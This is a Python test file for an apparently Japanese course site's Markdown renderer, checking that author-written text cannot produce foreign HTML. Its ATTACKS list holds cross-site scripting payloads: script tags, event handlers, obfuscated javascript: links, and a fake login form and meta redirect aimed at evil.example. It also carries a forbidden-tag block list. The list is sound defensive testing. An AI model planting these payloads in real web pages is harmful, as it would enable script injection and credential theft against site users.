"""What an author writes becomes HTML of ours and of nobody else's."""

from __future__ import annotations

import re
from collections.abc import Sequence
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.courses.load import load_course
from app.courses.render import Rendered, Renderer, characters, fragment, plain_text, without_ruby
from app.courses.source import read_files
from app.settings import ROOT

LABELS = {"1", "3(2)", "4(5)ア"}


def renderer(*, ruby: bool = False, language: str = "ja") -> Renderer:
    return Renderer(lambda label: fragment(label) if label in LABELS else None, ruby=ruby, language=language)


class Elements(HTMLParser):
    """Collects tags and attributes as a browser would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<p style='color:red'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/?a=\"onmouseover=alert(1)>",
    "文{: onclick=\"alert(1)\" style=\"x\" }",
    "[x](#1){: onclick=alert(1) target=_blank}",
    "# 題 {onclick=alert(1) style=color:red #ok}",
    "| a |\n|:-:|\n| <script>x</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "｜<script>x</script>《<script>y</script>》",
    "[<img src=x onerror=alert(1)>](#1)",
    "[1](#1 \"onmouseover=alert(1)\")",
    "<!-- --><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=password></form>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "!!! note \"<script>x</script>\"\n    <script>y</script>",
    "[x]: javascript:alert(1)\n\n[y][x]",
    "<div><div>閉じない",
    "\ue0000\ue001",
]  # fmt: skip
FORBIDDEN = {"script", "style", "iframe", "svg", "form", "input", "base", "meta", "object", "embed", "link"}


def assert_harmless(html: str) -> None:
    seen = Elements(html)
    assert not FORBIDDEN & set(seen.tags)
    for name, value in seen.attributes:
        assert not name.startswith("on") and name != "style"
        if name in ("href", "src"):
            assert not re.match(r"\s*(?:[a-z+.-]+:|//|\\)", value, re.IGNORECASE), value


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("ruby", [False, True])
def test_nothing_foreign_comes_through(attack: str, ruby: bool) -> None:
    ours = renderer(ruby=ruby)
    if "\ue000" not in attack:
        assert_harmless(ours.block(attack).html)
        assert_harmless(ours.inline(attack))
    assert_harmless(ours.post(attack.split("\n")))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS[:-1], "文", "\n", "\n\n", "> ", "- ", "    ", "**", "`", "《", "｜", "}}"]),
        max_size=8,
    )
)
def test_no_mixture_comes_through_either(parts: list[str]) -> None:
    assert_harmless(renderer(ruby=True).block("".join(parts)).html)


@pytest.mark.parametrize(
    ("written", "html"),
    [
        ("改行も\nつながる", "<p>改行もつながる</p>"),
        ("**強調**\nのあと", "<p><strong>強調</strong>のあと</p>"),
        ("これは**「重要」**です", "<p>これは<strong>「重要」</strong>です</p>"),
        ("two\nwords", "<p>two\nwords</p>"),
        (
            "[4(5)ア](#4(5)ア)です",
            '<p><a class="clause-link" href="#clause-4(5)%E3%82%A2">4(5)ア</a>です</p>',
        ),
        ("[1](#1)の定義", '<p><a class="clause-link" href="#clause-1">ガイドライン1</a>の定義</p>'),
        ("[3(2)のこと](#3(2))", '<p><a class="clause-link" href="#clause-3(2)">3(2)のこと</a></p>'),
        ("[3(2)](#3%282%29)", '<p><a class="clause-link" href="#clause-3(2)">3(2)</a></p>'),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
    ],
)
def test_markdown_becomes_html(written: str, html: str) -> None:
    assert renderer().block(written).html == html


def test_code_keeps_its_lines() -> None:
    assert "一行目\n二行目" in renderer().block("```\n一行目\n二行目\n```").html


def test_tables_carry_no_inline_style() -> None:
    html = renderer().block("| a | b |\n|:-:|--:|\n| 1 | 2 |").html
    assert "style" not in html
    assert '<td align="center">1</td>' in html


def test_a_post_keeps_its_lines_and_signs() -> None:
    html = (
        renderer().block("話です。\n\n> #祭り 楽しい_ね_\n> **明日**も\n>\n> - 行く\n\nどう考えますか。").html
    )
    assert (
        '<blockquote class="post"><p>#祭り 楽しい_ね_<br>\n**明日**も</p><p>- 行く</p></blockquote>' in html
    )
    assert html.endswith("<p>どう考えますか。</p>")


def test_readings_appear_only_when_asked_for() -> None:
    written = "｜住民票《じゅうみんひょう》を｜写《うつ》す"
    assert renderer().block(written).html == "<p>住民票を写す</p>"
    shown = renderer(ruby=True).block(written).html
    assert "<ruby>住民票<rp>(</rp><rt>じゅうみんひょう</rt><rp>)</rp></ruby>" in shown
    assert plain_text(shown) == "住民票を写す"
    assert characters(shown) == 6


def test_readings_work_in_posts_and_tables_and_never_in_headings() -> None:
    written = "## ｜題《だい》\n\n> ｜私《わたし》の\n\n| a |\n|---|\n| ｜表《ひょう》 |"
    html = renderer(ruby=True).block(written).html
    assert '<h2 id="題">題</h2>' in html
    assert html.count("<rt>") == 2


def test_addresses_outside_are_text() -> None:
    html = renderer().block("[資料](https://example.jp/a) <https://example.jp/b>").html
    assert "<a" not in html
    assert "資料" in html and "(https://example.jp/a インターネット接続系端末で開いてください)" in html
    assert "https://example.jp/b" in html
    assert "terminal" in renderer(language="en").block("[x](https://example.jp)").html


def test_japanese_headings_get_ids_of_their_own() -> None:
    rendered = renderer().block("## 補足\n\n### 例\n\n## 補足\n\n### 名付けた {#named}")
    assert [heading.anchor for heading in rendered.headings] == ["補足", "例", "補足_1", "named"]
    assert [heading.level for heading in rendered.headings] == [2, 3, 2, 3]


def test_what_is_cited_is_known() -> None:
    rendered = renderer().block("[1](#1) [3(2)](#3(2)) [x](#nowhere) [y](/check) ![z](z.png)")
    assert rendered.cites == ("1", "3(2)")
    assert rendered.anchors == ("nowhere",)
    assert rendered.links == ("/check",)
    assert rendered.images == ("z.png",)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="漢字かな｜《》 \n*_#-[](x)`>|", max_size=60))
def test_without_readings_the_words_stay(text: str) -> None:
    ours = renderer().block(text).html
    assert "<rt>" not in ours
    assert nh3.clean_text(without_ruby(without_ruby(text))) == nh3.clean_text(without_ruby(text))


#: What most of a course is made of, and what must not be taken for it.
PIECES = [
    *(
        "文",
        "です。",
        "a",
        "1",
        " ",
        "\n",
        "\n\n",
        "(",
        ")",
        "!",
        "？",
        "、",
        "　",
        "｜",
        "《",
        "｜漢字《かんじ》",
    ),
    *("[1](#1)", "[文](#1)", "[3(2)](#3(2))", "[｜四《よん》](#4(5)ア)", "[x](#nowhere)", "![1](#1)"),
    *("[1]", "[^1]", "[1]: ", "> 投稿", "- ", "1. ", "**", "<", "&", "#"),
]


def as_markdown_says(one: Renderer, text: str) -> Rendered:
    """The long way of ``block``."""
    return one._written(*one._with_tokens(text.split("\n"), {}))


@settings(max_examples=300, deadline=None)
@given(st.text("漢字かｱa9 .,-+=:;()「」｜《》\n#*_[]&<>|!`~^'\"　・%/？é", max_size=24), st.booleans())
def test_words_alone_are_shown_as_markdown_shows_them(text: str, ruby: bool) -> None:
    one = renderer(ruby=ruby)
    assert one.block(text) == as_markdown_says(one, text)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(PIECES), max_size=9).map("".join), st.booleans(), st.sampled_from(["ja", "en"])
)
def test_citations_and_paragraphs_are_shown_as_markdown_shows_them(
    text: str, ruby: bool, language: str
) -> None:
    one = renderer(ruby=ruby, language=language)
    assert one.block(text) == as_markdown_says(one, text)


def test_most_of_our_content_needs_no_markdown(monkeypatch: pytest.MonkeyPatch) -> None:
    """And every tenth text of it looks as Markdown would have it."""
    quick, slow = 0, 0
    words = Renderer._words

    def compared(one: Renderer, source: Sequence[str], finished: Sequence[str]) -> Rendered | None:
        nonlocal quick, slow
        if (found := words(one, source, finished)) is None:
            slow += 1
            return None
        quick += 1
        if quick % 10 == 1:
            assert found == one._written(source, finished)
        return found

    monkeypatch.setattr(Renderer, "_words", compared)
    files = read_files(ROOT / "content" / "sns-guideline")
    for language in ("ja", "en"):
        load_course(files, "sns-guideline", language, ruby=True)
    assert quick > 10 * slow > 0
